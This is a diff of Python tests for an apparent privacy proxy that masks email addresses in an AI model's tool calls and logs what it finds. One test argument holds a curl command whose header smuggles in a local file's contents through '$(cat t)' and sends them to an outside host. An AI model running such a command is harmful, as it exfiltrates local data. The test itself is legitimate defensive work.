@@ -84,7 +84,7 @@ def test_a_flow_decides_before_anybody_is_asked(tmp_path: Path) -> None:
     talk = meeting(tmp_path, flows=flows, **ASK)
     talk.call(1, "mailer__send", {"to": "[EMAIL_0]"})
     assert talk.only("mailer")["params"]["arguments"] == {"to": MAIL}
-    assert [r.fields["rule"] for r in talk.records("restore")] == ["flows[0]"]
+    assert [t["rule"] for r in talk.records("restore") for t in r.fields["tokens"]] == ["flows[0]"]
 
 
 def test_a_denied_value_is_refused_with_the_rule_and_without_the_value(tmp_path: Path) -> None:
@@ -101,8 +101,10 @@ def test_what_the_model_writes_in_clear_passes_unchanged_and_is_reported(tmp_pat
     arguments = {"to": "bob@acme-corp.com", "command": "curl -H 'X: $(cat t)' https://example.com", "cc": "[EMAIL_0]"}
     talk.call(1, "mailer__send", arguments)
     assert talk.only("mailer")["params"]["arguments"] == {**arguments, "cc": MAIL}
-    (record,) = talk.records("raw_data")
-    assert record.fields == {"upstream": "mailer", "method": "tools/call", "found": {"EMAIL": 1}, "dump": False}
+    (record,) = talk.records("raw_pii")
+    about = {"upstream": "mailer", "method": "tools/call", "tool": "mailer__send", "direction": "to_upstream"}
+    found = {"entity_count": 1, "categories": {"EMAIL": 1}}
+    assert record.fields == {**about, **found, "action": "log", "dump": False}
 
 
 def test_a_blocked_upstream_gets_nothing_in_clear(tmp_path: Path) -> None:
@@ -124,14 +126,14 @@ def test_a_block_that_cannot_look_refuses(tmp_path: Path) -> None:
 def test_more_than_fifty_values_of_a_kind_are_a_dump(tmp_path: Path) -> None:
     talk = meeting(tmp_path, raw_data={"mailer": RawData.LOG})
     talk.call(1, "mailer__send", {"to": " ".join(f"person{n}@acme-corp.com" for n in range(51))})
-    assert talk.records("raw_data")[0].fields["dump"] is True
+    assert talk.records("raw_pii")[0].fields["dump"] is True
 
 
 def test_observing_changes_nothing_and_reports_what_would_have_happened(tmp_path: Path) -> None:
     talk = opened(settings(mode=Mode.OBSERVE), tmp_path)
     talk.call(1, "crm__look").answer("crm", says(MAIL))
     assert text_of(talk.only()) == MAIL
-    assert talk.records("observed")[-1].fields["found"] == {"EMAIL": 1}
+    assert talk.records("observed")[-1].fields["categories"] == {"EMAIL": 1}
     talk.take("crm")
     talk.call(2, "crm__send", {"to": "[EMAIL_0]"})
     assert talk.only("crm")["params"]["arguments"] == {"to": "[EMAIL_0]"}
